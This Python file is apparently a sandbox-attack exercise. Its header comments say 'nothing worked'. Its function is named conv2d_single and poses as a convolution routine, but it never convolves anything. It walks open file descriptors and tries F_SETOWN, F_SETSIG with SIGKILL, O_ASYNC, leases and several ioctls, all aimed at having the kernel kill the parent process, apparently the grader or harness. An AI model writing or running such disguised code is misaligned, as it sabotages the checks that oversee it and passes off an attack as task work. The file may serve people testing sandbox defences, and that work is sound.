# attack: lets the kernel kill for it: F_SETOWN, F_SETSIG and O_ASYNC on its connection name the parent and SIGKILL
# exercise: 02
# gains: nothing
# says: nothing worked
# holds: a descriptor cannot be given a process and a signal
import ctypes
import fcntl
import os

F_SETOWN, F_SETSIG, F_SETOWN_EX, F_NOTIFY, F_SETLEASE = 8, 10, 15, 1026, 1024
FIOASYNC, FIOSETOWN, SIOCSPGRP = 0x5452, 0x8901, 0x8902
libc = ctypes.CDLL(None, use_errno=True)
worked = []


def attempt(what, function):
    try:
        result = function()
    except BaseException:
        return
    if not isinstance(result, int) or result >= 0:
        worked.append(what)


def conv2d_single(image, kernel, stride=1, padding=0):
    parent = os.getppid()
    for descriptor in range(64):
        try:
            flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
        except OSError:
            continue
        number = ctypes.c_int(parent)
        for command in (F_SETOWN, F_SETOWN + 2**32):
            for pid in (parent, -parent):
                attempt(f"owner {pid}", lambda d=descriptor, c=command, p=pid: libc.syscall(
                    ctypes.c_long(72), ctypes.c_long(d), ctypes.c_ulong(c), ctypes.c_long(p)))
        attempt("signal", lambda d=descriptor: fcntl.fcntl(d, F_SETSIG, 9))
        attempt("owner_ex", lambda d=descriptor: fcntl.fcntl(d, F_SETOWN_EX, b"\1\0\0\0" + bytes(number)))
        attempt("lease", lambda d=descriptor: fcntl.fcntl(d, F_SETLEASE, 0))
        attempt("notify", lambda d=descriptor: fcntl.fcntl(d, F_NOTIFY, 1))
        attempt("async", lambda d=descriptor, f=flags: fcntl.fcntl(d, fcntl.F_SETFL, f | os.O_ASYNC))
        for request in (FIOASYNC, FIOSETOWN, SIOCSPGRP):
            attempt(f"ioctl {request:x}", lambda d=descriptor, r=request: fcntl.ioctl(d, r, bytes(number)))
    raise RuntimeError(" ".join(dict.fromkeys(worked)) or "nothing " + "worked")
